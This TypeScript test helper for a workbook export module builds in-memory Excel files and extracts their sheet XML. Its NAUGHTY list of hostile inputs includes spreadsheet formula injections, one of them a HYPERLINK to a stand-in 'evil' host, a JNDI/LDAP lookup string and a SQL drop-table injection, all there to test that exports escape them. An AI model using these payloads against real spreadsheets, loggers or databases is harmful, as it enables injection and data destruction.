import {
  writeWorkbook,
  EXCEL_LIMITS,
  type SheetLimits,
  type WorkbookCounts,
} from '../../src/exports/workbook.js';
import type { CoverLine } from '../../src/exports/workbook-shell.js';
import { ZoneClock } from '../../src/exports/dates.js';
import type { Sink } from '../../src/exports/files.js';
import { readArchive } from '../../src/exports/archive.js';
import type { Entry } from '../../src/trail/read/entry.js';
import type { RowBatch } from '../../src/trail/read/row-batch.js';
import { batchesOf } from './entries.ts';

/** Texts that spreadsheets, XML or string handling are known to damage. */
export const NAUGHTY = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  "'quoted",
  '"double"',
  '=HYPERLINK("http://evil","x")',
  '007',
  '1e5',
  '12/11',
  'TRUE',
  '#REF!',
  ' leading and trailing ',
  'tab\there',
  'line\nbreak',
  'carriage\r\nreturn',
  '\n',
  '<b>&amp;</b>',
  ']]>',
  '_x0041_',
  '_x0041\u0001',
  '_x0041_x0042_',
  '__x000D__',
  '_X0041_',
  '\u0001\u0008\u000b\u001f',
  '\u007f\u0085\u00a0\u2028\u2029',
  '😀👩‍👩‍👧‍👦',
  'שלום עולם',
  'ﷺ',
  'Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮',
  '\ufeffbom',
  '${jndi:ldap://x}',
  "'; drop table entry; --",
];

/** What was written, in memory. */
export class MemorySink implements Sink {
  readonly #chunks: Buffer[] = [];

  write(bytes: Uint8Array): Promise<void> {
    this.#chunks.push(Buffer.from(bytes));
    return Promise.resolve();
  }

  get bytes(): Buffer {
    return Buffer.concat(this.#chunks);
  }
}

/**
 * Returns the report of these entries as a workbook. The cover has a line with their count, and the lines of
 * the options.
 */
export async function workbookOf(
  entries: readonly Entry[],
  options: {
    readonly zone?: string;
    readonly limits?: SheetLimits;
    readonly cover?: readonly CoverLine[];
  } = {},
): Promise<{ file: Buffer; counts: WorkbookCounts }> {
  const sink = new MemorySink();
  let counts: WorkbookCounts = { sheets: 0, clipped: 0 };
  await writeWorkbook({
    batches: batchesOf(entries),
    sink,
    clock: new ZoneClock(options.zone ?? 'UTC'),
    createdAt: new Date(0),
    cover: (now) => {
      counts = now;
      return [{ label: 'Entries', text: String(entries.length) }, ...(options.cover ?? [])];
    },
    limits: options.limits ?? EXCEL_LIMITS,
  });
  return { file: sink.bytes, counts };
}

const STRING = /<si><t(?: xml:space="preserve")?>([^]*?)<\/t><\/si>/g;
const SHARED = /t="s"><v>(\d+)<\/v>/g;

/** A string of the table as the cell would have it that holds it itself. */
function inlined(text: string): string {
  const edges = text.charCodeAt(0) <= 0x20 || text.charCodeAt(text.length - 1) <= 0x20;
  return `t="inlineStr"><is><t${edges ? ' xml:space="preserve"' : ''}>${text}</t></is>`;
}

/** The XML of the cover and of the first data sheet of these rows, each string where it is shown. */
export async function sheetXmlOf(batches: AsyncIterable<RowBatch>, zone: string): Promise<Buffer> {
  const sink = new MemorySink();
  await writeWorkbook({
    batches,
    sink,
    clock: new ZoneClock(zone),
    createdAt: new Date(0),
    cover: ({ clipped }) => [{ label: 'Clipped', text: String(clipped) }],
  });
  const files = readArchive(sink.bytes);
  const strings = [...files.get('xl/sharedStrings.xml')!.toString().matchAll(STRING)].map(
    ([, text]) => text!,
  );
  const sheets = ['xl/worksheets/sheet1.xml', 'xl/worksheets/sheet2.xml'].map((part) =>
    files
      .get(part)!
      .toString()
      .replace(SHARED, (_, number) => inlined(strings[Number(number)]!)),
  );
  return Buffer.from(sheets.join(''));
}
